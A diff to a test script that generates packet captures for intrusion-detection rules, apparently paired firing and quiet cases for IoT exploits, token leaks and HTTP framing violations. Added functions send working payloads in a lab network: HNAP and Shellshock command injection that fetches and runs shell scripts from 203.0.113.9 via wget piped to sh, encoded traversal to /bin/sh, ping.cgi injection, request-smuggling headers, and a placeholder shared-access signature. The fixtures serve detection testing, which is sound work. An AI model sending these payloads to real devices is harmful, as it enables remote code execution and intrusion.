@@ -16,6 +16,7 @@ from net import Net, until  # noqa: E402
 
 OUT = os.path.join(os.path.dirname(os.path.dirname(HERE)), "pcaps")
 SERVER, METER, ATTACKER = "10.20.0.1", "10.20.0.11", "10.20.0.66"
+SIGNATURE = "bWV0ZXI3hunter2-Very$ecret="
 USERS = {"meter": "Zaehler-77-wolke", "admin": "admin"}
 CONFIG = """
 error_log {dir}/error.log; pid {dir}/nginx.pid; user root; daemon off; worker_processes 1;
@@ -134,6 +135,35 @@ def exploits(net):
     raw(net, "attacker", b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m.sh&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n")
 
 
+def exploits_in_headers(net):
+    """HNAP (CVE-2015-2051), and Shellshock (CVE-2014-6271) in a cookie, a referer and a header of its own; curl sends them all."""
+    hnap = 'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && wget http://203.0.113.9/hnap -O h && sh h`"'
+    curl(net, "attacker", "/HNAP1/", "-X", "POST", "-H", hnap)
+    for name in ("Cookie", "Referer", "X-Request"):
+        curl(net, "attacker", "/cgi-bin/status", "-H", name + ": () { :; }; /bin/sh -c 'wget http://203.0.113.9/s -O- | sh'")
+
+
+def services(net):
+    """HNAP and UPnP as a person's program uses them; braces in headers that define no function."""
+    for action in ("http://purenetworks.com/HNAP1/Login", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"):
+        curl(net, "meter", "/HNAP1/", "-H", f'SOAPAction: "{action}"', "-H", "Content-Type: text/xml", "-d", "<Envelope/>")
+    curl(net, "meter", "/cgi-bin/status", "-H", "Cookie: view=function () { return 1 }", "-H", "X-Template: (){}", "-e", "http://g/?f=() {")
+
+
+def exploits_encoded(net):
+    """Paths of exploits as a filter that compares bytes does not see them. curl leaves them as they are."""
+    for path in ("/%47ponForm/diag%5FForm?images/", "/./cgi-bin//nas_sharing.cgi?user=messagebus&passwd=&cmd=15", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
+                 "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "/cgi-bin/luci/%3bstok=/%6cocale?form=country&operation=write",
+                 "/ping.cgi?host=192.0.2.1%3Bwget%20http://203.0.113.9/m.sh", "/ping.cgi?host=$(curl%20http://203.0.113.9/m.sh)"):
+        curl(net, "attacker", path, "--path-as-is", "-g")
+
+
+def pages_encoded(net):
+    for path in ("/caf%C3%A9/%5Findex.html", "/files/a%20b/../c.html", "/search?q=wget%20or%20curl%3F", "/ping.cgi?host=192.0.2.1%3A80", "/a/%2e/b.html",
+                 "/redirect?to=%2Fcgi-bin%2Fluci%2F"):
+        curl(net, "meter", path, "--path-as-is", "-g")
+
+
 def admin_pages(net):
     for path in ("/setup.cgi?next_file=status.htm", "/cgi-bin/luci/admin/status", "/shell.html", "/goform/getStatus?wget=1", "/picture.xml"):
         curl(net, "meter", path)
@@ -152,6 +182,45 @@ def unusual_but_legal(net):
     raw(net, "meter", b"GET / HTTP/1.0\r\n\r\n")
     curl(net, "meter", "/", "-I")
     curl(net, "meter", "/api/b", "-H", "Expect: 100-continue", "-d", "x" * 2000)
+
+
+def framing(net):
+    """A length beside chunked coding as curl sends it when told to; the rest by hand: neither curl nor Python's http.client would."""
+    curl(net, "attacker", "/api/a", "-H", "Transfer-Encoding: chunked", "-H", "Content-Length: 6", "-d", "G")
+    for head in (b"Content-Length: 5\r\nContent-Length: 11", b"Content-Length: 5, 5", b"Content-Length: +5", b"Transfer-Encoding : chunked",
+                 b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: xchunked", b"X-Meter: a\0b\r\nContent-Length: 5"):
+        raw(net, "attacker", b"POST /api/a HTTP/1.1\r\nHost: g\r\n" + head + b"\r\n\r\nhello")
+    raw(net, "attacker", b"GET / HTTP/1.1\r\n Host: g\r\nX-Meter: a\r\n\r\n")
+    with net.inside("attacker"):
+        with socket.create_connection((SERVER, 80), timeout=5) as s: # the fold in pieces
+            for piece in (b"POST /api/a HTTP/1.1\r\nHost: g\r\nTransfer-Enc", b"oding:\r\n", b"\tchunked\r\n\r\n", b"5\r\nhello\r\n0\r\n\r\n"):
+                s.sendall(piece)
+                time.sleep(0.05)
+
+
+def framing_legal(net):
+    """Headers that look odd and mean one thing: a fold in a header that frames nothing, chunked in capitals, lines again, zeros before a length."""
+    for head, body in ((b"X-Meter: a\r\n b\r\nContent-Length: 5", b"hello"), (b"Transfer-Encoding: CHUNKED", b"5\r\nhello\r\n0\r\n\r\n"),
+                       (b"X-Meter: a\r\nX-Meter: b\r\nContent-Length: 5", b"hello"), (b"Content-Length: 005", b"hello"),
+                       (b"X-Note: a\r\n\tTransfer\r\nTransfer-Encoding: chunked", b"5;q=\"a\"\r\nhello\r\n0\r\n\r\n"), (b"X-Empty:\r\nContent-Length:5", b"hello")):
+        raw(net, "meter", b"POST /api/a HTTP/1.1\r\nHost: g\r\n" + head + b"\r\n\r\n" + body)
+
+
+def shared_access(net):
+    """The signature that an Azure IoT hub takes for a password, in a header, a query and an MQTT login; SIGNATURE is one of tests/schema's secrets."""
+    net.mosquitto("server")
+    token = "SharedAccessSignature sr=plant.azure-devices.example%2Fdevices%2Fm7&sig=" + SIGNATURE + "&se=1795500000"
+    where = "/api/devices/m7/messages/events?api-version=2020-03-13"
+    curl(net, "meter", where, "-H", "Authorization: " + token, "-d", '{"watt": 118}')
+    curl(net, "meter", where + "&sr=plant&sig=" + SIGNATURE + "&se=1795500000", "-d", '{"watt": 118}')
+    curl(net, "meter", where, "-e", "http://plant.example/?SharedAccessSignature=" + SIGNATURE, "-d", '{"watt": 118}')
+    net.run("meter", "mosquitto_pub", "-h", SERVER, "-i", "m7", "-u", "plant.azure-devices.example/m7/?api-version=2021-04-12", "-P", token, "-t",
+            "devices/m7/messages/events/", "-m", '{"watt": 118}')
+
+
+def no_shared_access(net):
+    where = "/api/devices/m7/messages/events?api-version=2020-03-13&signal=-71&sr=plant&se=1795500000&skn=device&design=a"
+    curl(net, "meter", where, "-H", "Authorization: SharedAccessSignature sr=plant&sig=" + SIGNATURE + "&se=1795500000", "-d", '{"watt": 118}')
 
 
 def slowloris(net, tap):
@@ -202,6 +271,10 @@ CAPTURES = {
     "http/http_path_scan-fires": path_scan, "http/http_path_scan-quiet": missing_poller,
     "http/http_token_in_url-fires": token_in_url, "http/http_token_in_url-quiet": token_in_header,
     "http/http_iot_exploit-fires": exploits, "http/http_iot_exploit-quiet": admin_pages,
+    "http/http_iot_exploit-fires-headers": exploits_in_headers, "http/http_iot_exploit-quiet-headers": services,
+    "http/http_iot_exploit-fires-encoded": exploits_encoded, "http/http_iot_exploit-quiet-encoded": pages_encoded,
+    "http/http_protocol_violation-fires-framing": framing, "http/http_protocol_violation-quiet-framing": framing_legal,
+    "http/http_token_in_url-fires-sas": shared_access, "http/http_token_in_url-quiet-sas": no_shared_access,
     "http/http_protocol_violation-fires": violations, "http/http_protocol_violation-quiet": unusual_but_legal,
     "benign/http_telemetry": telemetry,
     "session/session_slow_dos-fires-http": slowloris, "session/session_slow_dos-quiet-http": slow_upload,
